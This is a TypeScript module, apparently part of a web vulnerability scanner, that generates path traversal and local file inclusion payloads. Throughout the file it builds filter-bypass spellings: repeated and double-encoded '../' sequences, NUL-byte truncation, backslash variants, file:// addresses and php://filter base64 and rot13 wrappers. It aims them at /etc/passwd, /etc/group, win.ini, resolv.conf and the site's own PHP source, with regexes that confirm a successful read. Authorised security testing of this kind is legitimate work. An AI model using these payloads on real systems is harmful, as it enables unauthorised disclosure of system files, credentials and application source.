/** A file that every system of its kind has, and what it looks like whatever it is shown in: text, HTML or JSON. */
export type KnownFile = {
  /** Path from the root of the file system. */
  path: string;
  /** The same names in an order in which they lead nowhere. */
  nowhere: string;
  pattern: string;
  /** It is source code of the application, and `path` no path from the root. */
  isScript?: true;
  /** It is a folder, and what it looks like is a list of its files. */
  isFolder?: true;
};

/** Some writers of JSON put a backslash before it, some of HTML write a reference. */
const slash = '(?:\\\\?/|&#(?:x2[Ff]|47);)';
const lineEnd = '(?:\\r?\\n|\\\\n|<br ?/?>|&#(?:10|x[Aa]);)';

/** In the order in which they are tried; where a page shows one anyway, the next proves more. Source: passwd(5), group(5). */
export const unixFiles: readonly KnownFile[] = [
  {
    path: 'etc/passwd',
    nowhere: 'passwd/etc',
    pattern: `root:[^:\\s]{0,100}:0:0:[^:\\n]{0,100}:${slash}[^:\\n]{0,60}:${slash}[\\w/.\\\\-]{1,60}`,
  },
  {
    path: 'etc/group',
    nowhere: 'group/etc',
    pattern: `\\b(?:root|wheel):[^:\\s]{0,60}:0:[\\w,-]{0,200}${lineEnd}[\\w.-]{1,32}:[^:\\s]{0,60}:\\d{1,6}:`,
  },
];

export const windowsFile: KnownFile = {
  path: 'windows/win.ini',
  nowhere: 'win.ini/windows',
  pattern: `(?i)\\[fonts\\]${lineEnd}(?s:.{0,300})\\[(?:extensions|mci extensions|files)\\]`,
};

/** "root:x:0:0:" as PHP writes it in base64, with what follows it. Where passwords stand in a file of their own, all begin so. */
export const encodedPasswd: KnownFile = {
  path: 'etc/passwd',
  nowhere: 'passwd/etc',
  pattern: 'cm9vdDp4OjA6MDp[\\w+/]{40}',
};

/** One whose name has an ending, which some programs demand, and add where there is none. Source: resolv.conf(5). */
const namedWithEnding: KnownFile = {
  path: 'etc/resolv.conf',
  nowhere: 'resolv/etc.conf',
  pattern: '\\bnameserver[ \\t]+(?:\\d{1,3}(?:\\.\\d{1,3}){3}\\b|[\\da-f]{0,4}:[\\da-f:]{1,40})',
};

/** A script that begins with "<?php" or has that inside, in base64: the three places that a text can have in it. */
const scriptOf = (name: string): KnownFile => ({
  path: name,
  nowhere: '‹nonce›',
  pattern: '(?:PD9waH|[DTjz]w/cGhw|[AEIMQUYcgkosw048]8P3Boc)[\\w+/]{16}',
  isScript: true,
});

/** The same with its letters moved by thirteen, where the word "base64" is refused. */
const movedScript = (name: string): KnownFile => ({
  path: name,
  nowhere: '‹nonce›',
  pattern: '(?:<|&lt;)\\?cuc\\s',
  isScript: true,
});

/** Three files of it, in any order. Source: passwd(5), shadow(5), hosts(5). */
const systemFolder: KnownFile = {
  path: 'etc',
  nowhere: '‹nonce›',
  pattern: `(?s)${inAnyOrder(['\\bpasswd\\b', '\\bshadow\\b', '\\bhosts\\b'])}`,
  isFolder: true,
};

function inAnyOrder(parts: readonly string[]): string {
  const orders = (left: readonly string[]): string[][] =>
    left.length === 0
      ? [[]]
      : left.flatMap((first) => orders(left.filter((each) => each !== first)).map((rest) => [first, ...rest]));
  return orders(parts)
    .map((order) => order.join('.*'))
    .join('|');
}

/** More steps up than any site stands deep: above the root there is only the root. */
const depth = 10;
export const up = (step: string) => step.repeat(depth);

/** A way to write a path in a value. */
export type Spelling = {
  spell(path: string): string;
  /** It is sent as it is, in an address; others are percent-encoded once. */
  encoded?: true;
  /** What it reads, where that is no file of Unix in plain text. */
  file?: KnownFile;
};

/** Every input is sent these. */
export const plainSpellings: readonly Spelling[] = [
  { spell: (path) => up('../') + path },
  { spell: (path) => `/${path}` },
];

/** For inputs that name a folder whose files are listed; a page about the folder may be called by its absolute path. */
export const folderSpellings: readonly Spelling[] = ['../', '....//'].map((step) => ({
  spell: (path: string) => up(step) + path,
  file: systemFolder,
}));

/** Whether a value is a folder, as its input calls it. */
export const namesFolder = (parameter: string): boolean => folderName.test(parameter);
const folderName = /(?:^|[._-])(?:dirs?|directory|folders?|cwd|subdir|subfolder|path|location)$/i;

/**
 * Ways past checks of a value, for inputs that look as if they named files.
 * @param sample a value that the site uses
 * @param route of the page, whose script may be a file beside those that are read
 */
export function furtherSpellings(sample: string, route: string): Spelling[] {
  const extension = extensionOf(sample);
  return [
    behindOwn(sample),
    // may not begin with dots that lead up
    { spell: (path) => `./${up('../')}${path}` },
    // "../" is removed, once
    { spell: (path) => up('....//') + path },
    // both "../" and "./" are, in whichever order
    { spell: (path) => up('.....///') + path },
    // decoded once more by the application
    { spell: (path) => (up('../') + path).replaceAll('/', '%2f') },
    { spell: (path) => (up('../') + path).replaceAll('.', '%2e').replaceAll('/', '%2f') },
    // has to end as the site's own values do, in languages whose files end at a NUL
    { spell: (path) => `${up('../')}${path}\0${extension}` },
    { spell: (path) => `/${path}\0${extension}` },
    // has to begin as the site's own values do, and is looked through as well
    ...behindFolder(sample),
    // has to have an ending, or gets another one
    ...['../', '....//'].map((step) => ({ spell: (path: string) => up(step) + path, file: namedWithEnding })),
    // well-known paths are refused
    { spell: (path) => `/${path.replaceAll('/', '/.//')}` },
    // addresses are opened, too
    ...fileAddresses(extension),
    ...throughFilter(sample, route),
    // backslashes are made slashes, behind a look for "../"
    { spell: (path) => up('..\\') + path },
    { spell: (path) => up('..\\') + path.replaceAll('/', '\\'), file: windowsFile },
    { spell: (path) => `c:/${path}`, file: windowsFile },
  ];
}

/** Has to begin as the site's own values do. */
function behindOwn(sample: string): Spelling {
  const folder = sample.slice(0, sample.lastIndexOf('/') + 1);
  return { spell: (path) => `${folder === '' ? `${sample}/` : folder}${up('../')}${path}` };
}

/** Where a value that is spelt otherwise is another one, only a comparison of its beginning may still be passed. */
export const spellingsPastPrefix = (sample: string): Spelling[] => [
  behindOwn(sample),
  ...fileAddresses(extensionOf(sample)),
];

const extensionOf = (sample: string): string => /\.\w{1,5}$/.exec(sample)?.[0] ?? '.png';

/** The ways past a search for "../" and for an ending, where the value also has to begin with a folder. */
function behindFolder(sample: string): Spelling[] {
  const folder = sample.slice(0, sample.lastIndexOf('/') + 1);
  return folder === ''
    ? []
    : [
        // may not lead up right behind the folder
        { spell: (path) => `${folder}./${up('../')}${path}` },
        { spell: (path) => folder + up('....//') + path },
        { spell: (path) => folder + (up('../') + path).replaceAll('/', '%2f') },
        { spell: (path) => folder + (up('../') + path).replaceAll('.', '%2e').replaceAll('/', '%2f') },
        { spell: (path) => `${folder}${up('../')}${path}\0${extensionOf(sample)}` },
      ];
}

/** Files by their address, for what opens addresses. */
export const fileAddresses = (ending: string): Spelling[] => [
  { spell: (path) => `file:///${path}` },
  { spell: (path) => `FILE://localhost/${path}?${ending}` },
];

/** An ending that is appended is no obstacle when the file has it: `include($_GET['page'] . '.php')`. */
function throughFilter(sample: string, route: string): Spelling[] {
  const filter = (path: string) => `php://filter/convert.base64-encode/resource=${path}`;
  const script = /(?<![\w-])([\w-]+)\.php$/i.exec(route)?.[1] ?? 'index';
  const words = /^[\w./-]{2,80}$/.test(sample) ? (sample.match(/[\w.-]{2,40}/g) ?? []) : [];
  const scripts = new Set([sample.replace(/\.php$/i, ''), script].filter((name) => /^[\w./-]{1,80}$/.test(name)));
  return [
    { spell: (path) => filter(`/${path}`), file: encodedPasswd },
    // has to have words of the site's own values in it: filters that PHP does not know are passed over
    ...(words.length === 0
      ? []
      : [
          {
            spell: (path: string) => filter(`/${path}`).replace('/resource=', `/${words.join('/')}/resource=`),
            file: encodedPasswd,
          },
        ]),
    // names of streams are the same in capitals
    ...[...scripts].slice(0, 1).flatMap((name) =>
      ['', '.php'].map((ending) => ({
        spell: (path: string) => `PHP://filter/read=string.rot13/resource=${path}${ending}`,
        file: movedScript(name),
      })),
    ),
    ...[...scripts].flatMap((name) => [
      { spell: filter, file: scriptOf(name) },
      { spell: (path: string) => filter(`${path}.php`), file: scriptOf(name) },
    ]),
  ];
}

/** Ways out of a folder of static files, as the last part of a path. */
export const pathSpellings: readonly Spelling[] = [
  { spell: (path) => up('../') + path, encoded: true },
  { spell: (path) => up('..%2f') + path.replaceAll('/', '%2f'), encoded: true },
  { spell: (path) => up('%2e%2e/') + path, encoded: true },
  { spell: (path) => up('..%252f') + path.replaceAll('/', '%252f'), encoded: true },
  { spell: (path) => up('%2e%2e%2f') + path.replaceAll('/', '%2f'), encoded: true },
  { spell: (path) => up('%252e%252e%252f') + path.replaceAll('/', '%252f'), encoded: true },
  { spell: (path) => up('....//') + path, encoded: true },
  // where double slashes become one
  { spell: (path) => up('...%2f.%2f') + path.replaceAll('/', '%2f'), encoded: true },
  { spell: (path) => up('..%5c') + path.replaceAll('/', '%5c'), encoded: true, file: windowsFile },
];

const fileNames =
  /^(?:f|p|pg)$|(?:file|path|dir|folder|doc(?:ument)?|page|template|tpl|include|inc|img|image|src|load|download|attachment|read|view|content|module|theme|style|skin|lang|layout|report|log|pdf|media|asset|name)/i;

/** An input that says which file to use: by its name, or because the site itself puts one there. */
export const namesFile = (name: string, sample: string): boolean => fileNames.test(name) || isPathLike(sample);

export const isPathLike = (sample: string): boolean =>
  /^[\w./\\-]{1,200}\.[a-z][a-z0-9]{1,4}$/i.test(sample) || /\w\/\w/.test(sample);

/** What languages say when a file that a value names cannot be opened. */
export const fileError =
  '(?i)failed to open stream|failed opening|no such file or directory|\\bENOENT\\b|FileNotFound(?:Error|Exception)|could not find file|the system cannot find the (?:file|path)|\\bIOError: \\[Errno|java\\.io\\.|rb_sysopen|no such file to load|TemplateNotFound|TemplateDoesNotExist|failed to lookup view';
